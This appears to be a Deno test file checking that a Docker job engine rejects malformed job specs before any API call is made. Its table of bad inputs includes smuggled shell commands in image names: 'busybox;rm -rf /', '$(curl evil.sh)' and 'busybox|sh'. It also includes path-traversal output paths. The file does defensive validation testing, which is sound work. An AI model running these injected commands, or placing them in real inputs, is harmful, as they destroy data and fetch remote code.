/** Bad job input is refused before any Docker API call, each with its own message. */
import assert from "node:assert/strict";
import { InvalidJobSpecError } from "../../src/docker/mod.ts";
import { RecordingProxy } from "./support/recording_proxy.ts";
import { DOCKER_HOST, dockerReady, testEngine } from "./support/harness.ts";

const ready = await dockerReady();

const BAD: [string, Record<string, unknown>, RegExp][] = [
  ["image with shell metacharacters", { image: "busybox;rm -rf /" }, /characters outside the reference grammar/],
  ["image with command substitution", { image: "$(curl evil.sh)" }, /characters outside the reference grammar/],
  ["image with an uppercase repository", { image: "Lamda/Busybox:latest" }, /uppercase repository/],
  ["relative output_path", { outputPath: "output" }, /must be absolute/],
  ["output_path with ..", { outputPath: "/output/../etc" }, /must not contain "\.\."/],
  ["output_path of /", { outputPath: "/" }, /must not be the container's root/],
  ["output_path of /proc", { outputPath: "/proc" }, /must not be under \/proc/],
  ["output_path of /input", { outputPath: "/input" }, /must not be \/input/],
  ["env with NVIDIA_VISIBLE_DEVICES", { env: { NVIDIA_VISIBLE_DEVICES: "all" } }, /NVIDIA_VISIBLE_DEVICES controls/],
  ["env with CUDA_VISIBLE_DEVICES", { env: { CUDA_VISIBLE_DEVICES: "0" } }, /CUDA_VISIBLE_DEVICES controls/],
];

Deno.test({
  name: "bad job input is rejected before any API call, each with its own message",
  ignore: !ready,
  async fn() {
    await using proxy = RecordingProxy.start(DOCKER_HOST);
    await using t = await testEngine({ host: proxy.host });
    const messages = new Set<string>();
    for (const [what, change, expected] of BAD) {
      const outcome = await t.engine.run(
        {
          jobId: "bad-input",
          attempt: 1,
          image: t.image,
          outputDir: t.outputDir,
          ...change,
        } as Parameters<typeof t.engine.run>[0],
      );
      assert.ok(!outcome.ok && outcome.reason === "invalid_job", `${what}: ${JSON.stringify(outcome)}`);
      assert.match(outcome.message, expected, what);
      messages.add(outcome.message);
    }
    assert.equal(messages.size, BAD.length, "every rejection has its own message");
    await assert.rejects(t.engine.ensureImage("busybox|sh"), InvalidJobSpecError);
    assert.deepEqual(proxy.calls(), [], "no API call was made");
  },
});
